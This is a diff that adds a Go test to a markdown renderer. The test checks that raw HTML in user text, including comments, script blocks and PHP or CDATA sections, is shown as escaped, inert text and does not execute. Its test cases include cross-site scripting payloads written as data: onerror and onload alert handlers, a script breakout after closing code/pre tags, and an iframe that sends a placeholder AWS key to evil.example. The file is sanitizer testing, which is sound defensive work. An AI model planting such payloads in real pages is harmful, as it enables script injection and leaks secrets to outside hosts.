@@ -92,6 +92,64 @@ func TestRenderMarkdown(t *testing.T) {
 	}
 }
 
+// textOf is what a browser shows of sanitized HTML: its text, unescaped.
+func textOf(s string) string {
+	var b strings.Builder
+	z := html.NewTokenizer(strings.NewReader(s))
+	for {
+		switch z.Next() {
+		case html.ErrorToken:
+			return b.String()
+		case html.TextToken:
+			b.Write(z.Text())
+		}
+	}
+}
+
+// TestRenderShowsRawHTMLAsText: text inside raw HTML — blocks, inline tags,
+// comments — is what a user typed, and an auditor must see it. goldmark
+// without WithUnsafe dropped it, so a secret inside was flagged but not
+// shown; it must now appear as inert, escaped text.
+func TestRenderShowsRawHTMLAsText(t *testing.T) {
+	const secret = "AKIAQWERTYUIOPASDFGH"
+	r := newRenderer()
+	for _, tc := range []struct {
+		name, in string
+		shown    []string // literal source the visible text must contain
+	}{
+		{"details block", "<details>\n<summary>creds</summary>\nkey " + secret + "\n</details>",
+			[]string{"<details>", "<summary>creds</summary>", "key " + secret, "</details>"}},
+		{"details block closed on one line", "<details><summary>s</summary>" + secret + "</details>", []string{"<details><summary>s</summary>" + secret + "</details>"}},
+		{"comment block", "<!-- password: " + secret + " -->", []string{"<!-- password: " + secret + " -->"}},
+		{"multi-line comment block", "before\n\n<!--\n" + secret + "\n-->\n\nafter", []string{"<!--\n" + secret + "\n-->", "before", "after"}},
+		{"inline comment", "see <!-- " + secret + " --> here", []string{"see <!-- " + secret + " --> here"}},
+		{"div between paragraphs", "first\n\n<div>" + secret + "</div>\n\nlast", []string{"<div>" + secret + "</div>", "first", "last"}},
+		{"inline tag with attribute", `text <span title="` + secret + `">x</span> end`, []string{`<span title="` + secret + `">x</span>`}},
+		{"script block", "<script>var k='" + secret + "'</script>\n\nhello", []string{"<script>var k='" + secret + "'</script>", "hello"}},
+		{"processing instruction", "<?php echo '" + secret + "'; ?>", []string{"<?php echo '" + secret + "'; ?>"}},
+		{"cdata", "<![CDATA[" + secret + "]]>", []string{"<![CDATA[" + secret + "]]>"}},
+		{"img onerror inline", `hi <img src=x onerror="alert('` + secret + `')">`, []string{`<img src=x onerror="alert('` + secret + `')">`}},
+		{"iframe block", `<iframe src="http://evil.example/` + secret + `"></iframe>`, []string{`<iframe src="http://evil.example/` + secret + `"></iframe>`}},
+		{"svg onload", `<svg onload=alert(1)>` + secret + `</svg>`, []string{`<svg onload=alert(1)>` + secret + `</svg>`}},
+		{"breakout attempt", "<div>\n</code></pre><script>alert(1)</script>\n</div>", []string{"</code></pre><script>alert(1)</script>"}},
+		{"html inside a list item", "- item <b>" + secret + "</b>", []string{"<b>" + secret + "</b>"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			out, ok := r.HTML(tc.in)
+			if !ok {
+				t.Fatal("not rendered")
+			}
+			checkSafe(t, out) // no live tag or attribute survives
+			text := textOf(out)
+			for _, w := range tc.shown {
+				if !strings.Contains(text, w) {
+					t.Errorf("visible text lacks %q\ntext: %q\nhtml: %s", w, text, out)
+				}
+			}
+		})
+	}
+}
+
 func TestRenderTooLong(t *testing.T) {
 	if _, ok := newRenderer().HTML(strings.Repeat("a", maxRenderBytes+1)); ok {
 		t.Error("rendered text over the limit")
